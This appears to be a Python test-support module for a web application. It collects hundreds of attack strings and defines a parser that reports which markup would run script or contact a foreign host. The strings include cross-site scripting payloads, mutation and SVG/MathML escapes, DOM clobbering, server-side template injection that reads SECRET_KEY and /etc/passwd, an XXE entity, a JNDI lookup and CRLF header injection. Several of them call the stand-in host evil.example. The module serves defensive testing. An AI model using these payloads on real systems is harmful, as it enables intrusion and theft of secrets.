"""What an attacker would write into a text, and what tells that a page lets it act.

Each snippet calls `pwned()` if it can run at all, asks the host `evil.example` for something, or
changes what stands around it.
"""

import json
import re
from html.parser import HTMLParser
from urllib.parse import unquote

#: Direction: overrides and embeddings, which no text needs, and isolates that are left open.
BIDI = [
    "photo\u202egnp.exe",
    "\u202dleft\u202c",
    "\u202bembedded",
    "\u202aembedded\u202c",
    "\u2067open",
    "\u2066\u2066two",
    "closed\u2069\u2069",
    "\u2068one\u2069 \u2067another",
]
LINKS = [
    '<a href="javascript:pwned()">x</a>',
    '<a href="JaVaScRiPt:pwned()">x</a>',
    '<a href=" javascript:pwned()">x</a>',
    '<a href="java\tscript:pwned()">x</a>',
    '<a href="java\nscript:pwned()">x</a>',
    '<a href="java\r\nscript:pwned()">x</a>',
    '<a href="\x01javascript:pwned()">x</a>',
    '<a href="\u00a0javascript:pwned()">x</a>',
    '<a href="javascript&colon;pwned()">x</a>',
    '<a href="javascript&#58;pwned()">x</a>',
    '<a href="javascript&#x3a;pwned()">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:pwned()">x</a>',
    '<a href="&#0000106avascript:pwned()">x</a>',
    '<a href="jav&Tab;ascript&colon;pwned&lpar;&rpar;">x</a>',
    '<a href="javascript://evil.example/%0apwned()">x</a>',
    '<a href="javascript:/*--></title></style></textarea></script><svg onload=pwned()>">x</a>',
    '<a href="data:text/html,<script>pwned()</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>',
    '<a href="vbscript:pwned()">x</a>',
    '<a href="livescript:pwned()">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="view-source:javascript:pwned()">x</a>',
    '<a href="feed:javascript:pwned()">x</a>',
    '<a href="https://example.org/" ping="https://evil.example/">x</a>',
    '<a href="https://example.org/" target="_top" onclick="pwned()">x</a>',
    '<a href="/en/" download="evil.exe" data-page="articles.article:1\' onclick=pwned()">x</a>',
    '<a data-page="articles.article:1" href="javascript:pwned()">x</a>',
    '<a xlink:href="javascript:pwned()">x</a>',
    "[x](javascript:pwned())",
]
ELEMENTS = [
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script type="module">pwned()</script>',
    '<script type="importmap">{"imports": {"newsroom/paste": "//evil.example/x.js"}}</script>',
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\x0c>pwned()</script\x0c>",
    "</script><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "<!--><script>pwned()</script>-->",
    "--><script>pwned()</script><!--",
    "<!-- unclosed",
    "<![CDATA[<script>pwned()</script>",
    "<?xml version='1.0'?><script>pwned()</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<img src=x onerror=pwned()>",
    '<img src="/media/x.png" onerror="pwned()">',
    "<img/src=x/onerror=pwned()>",
    '<img """><script>pwned()</script>">',
    '<img src="x` `<script>pwned()</script>"` `>',
    '<img srcset="https://evil.example/x.png 1x">',
    '<img src="https://evil.example/x.png">',
    '<img src="/media/../admin/logout/">',
    '<img src="data:image/svg+xml,<svg onload=pwned()>">',
    '<picture><source srcset="//evil.example/x.png"><img src="/media/x.png"></picture>',
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<p onclick=pwned() tabindex=0 onfocus=pwned() autofocus>x</p>",
    '<iframe src="javascript:pwned()"></iframe>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<object data="data:text/html,<script>pwned()</script>"></object>',
    '<embed src="javascript:pwned()">',
    '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="data:text/html,<script>pwned()</script>">',
    '<form action="https://evil.example/"><button>x</button></form>',
    '<form id="article_form"></form><button form="article_form" formaction="javascript:pwned()">x',
    "<isindex action=javascript:pwned() type=submit>",
    "<portal src=https://evil.example/></portal>",
    '<dialog open><form method="dialog"></form></dialog>',
    '<button popovertarget="x">x</button><div popover id="x" onbeforetoggle="pwned()">x</div>',
    "<slot name=x onslotchange=pwned()></slot>",
]
MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "<template><script>pwned()</script></template>",
    '<template shadowrootmode="open"><img src=x onerror=pwned()></template>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=pwned()">',
    '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
    '<math href="javascript:pwned()">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:pwned()">x</maction></math>',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<svg><foreignObject><script>pwned()</script></foreignObject></svg>",
    '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"/></svg>',
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:pwned()"/></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
    "<table><caption><svg><title><style><img src=x onerror=pwned()></style></title></svg>",
    "<select><option><style></option></select><img src=x onerror=pwned()></style>",
    '<xmp><p title="</xmp><img src=x onerror=pwned()>"></p></xmp>',
    "<plaintext><script>pwned()</script>",
    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "<p>" * 300 + "<script>pwned()</script>",
]
STYLES = [
    '<p style="background: url(https://evil.example/x.png)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    '<p style="width:expression(pwned())">x</p>',
    '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{display:none}</style>",
    '<p class="submit-row deletelink" id="content-main">x</p>',
]
BREAKOUTS = [
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "' onmouseover='pwned()' x='",
    "` onmouseover=pwned() `",
    '" style="background:url(//evil.example/)" x="',
    "';pwned();//",
    '";pwned();//',
    "\\';pwned();//",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\u2028pwned()\u2029",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "%3Cscript%3Epwned()%3C/script%3E",
]
#: Names that would hide what scripts of ours look for.
CLOBBERING = [
    '<a id="content-main" name="content-main">x</a>',
    '<img name="currentScript" src="/media/x.png">',
    '<form id="searchbar" name="getElementById"><input name="attributes"></form>',
    '<a id="defaultView"></a><a id="defaultView" name="x" href="cid:pwned()">x</a>',
    '<p id="editor-words">{"bold": "x"}</p>',
]
TEMPLATES = [
    "{{ 7|add:7 }}{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}{% include '/etc/passwd' %}",
    "{% endblock %}{% endautoescape %}",
    "{# comment",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "#{pwned()}",
    "*{pwned()}",
    "<%= pwned() %>",
    "<#assign x=pwned()>",
    "[[${pwned()}]]",
    "${jndi:ldap://evil.example/x}",
    "{0.__class__}%(secret)s %s {secret}",
    '<div x-data x-init="pwned()" v-html="pwned()" ng-app ng-init="pwned()">x</div>',
]
LINES = [
    "x\r\nBcc: everybody@evil.example",
    "x\nContent-Type: text/html\n\n<script>pwned()</script>",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:https://evil.example/x",
    "x\\nEND:VCALENDAR",
    "x;y,z:w\\",
    "x\u0085Set-Cookie: a=b",
    "x%0d%0aSet-Cookie:%20a=b",
    '=HYPERLINK("https://evil.example/")',
]
CONTROLS = ["a\x00b", "a\x08b\x1b[31m", "\ufffe\uffff", "\x7f", "x" * 100_000, "\u0300" * 500]

SNIPPETS = [
    *LINKS,
    *ELEMENTS,
    *MUTATIONS,
    *STYLES,
    *BREAKOUTS,
    *CLOBBERING,
    *TEMPLATES,
    *LINES,
    *CONTROLS,
    *BIDI,
]

#: Where a browser goes, or what it runs, by way of an attribute.
LEADING = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "cite", "ping"}
LEADING |= {"srcset", "background", "manifest", "content"}
ACTIVE = re.compile(r"^[\s\x00-\x20]*(?:java|vb|live)script[\s\x00-\x20]*:|^\s*data:text", re.I)
FOREIGN = re.compile(r"(?:https?:)?//evil\.example", re.I)
DIRECTION = re.compile("[\u202a-\u202e]")
#: Elements that load, run or send something by themselves.
LOADING = {"img", "script", "link", "iframe", "object", "embed", "source", "video", "audio", "base"}
LOADING |= {"form", "button", "input", "meta", "use", "image", "animate", "portal"}
#: What no page of ours has.
FORBIDDEN = {"iframe", "object", "embed", "base", "portal", "marquee", "isindex", "math", "applet"}


class Danger(HTMLParser):
    """Reads a page and collects, as `found`, what would act on its own or on a click."""

    def __init__(self, html, frames=False):
        super().__init__()
        self.found, self.script = [], None
        self.forbidden = FORBIDDEN - ({"iframe"} if frames else set())
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        attributes = [(name, value or "") for name, value in attributes]
        if tag in self.forbidden:
            self.found.append(f"<{tag}> {attributes}")
        if tag == "script":
            self.script = dict(attributes)
        for name, value in attributes:
            if self.is_dangerous(tag, name, value):
                self.found.append(f"<{tag} {name}={value[:200]!r}>")

    def is_dangerous(self, tag, name, value):
        if name.startswith("on") or (name in ("srcdoc", "style") and "pwned" in value):
            return True
        if name == "style":
            return "url(" in value or "expression" in value
        if (name in LEADING and ACTIVE.search(unquote(value))) or ACTIVE.search(value):
            return name in LEADING
        return tag in LOADING and name in LEADING - {"content"} and bool(FOREIGN.search(value))

    def handle_data(self, text):
        if self.script is None:
            return
        kind = self.script.get("type", "")
        if "json" in kind or kind == "importmap":
            self.check_json(text)
        elif "pwned" in text:
            self.found.append(f"<script>{text[:200]}")

    def check_json(self, text):
        try:
            json.loads(text)
        except ValueError:
            self.found.append(f"no JSON: {text[:200]}")

    def handle_endtag(self, tag):
        if tag == "script":
            self.script = None


def dangers(html, **options):
    """Return what of a page would act, as a browser reads it."""
    return Danger(html, **options).found
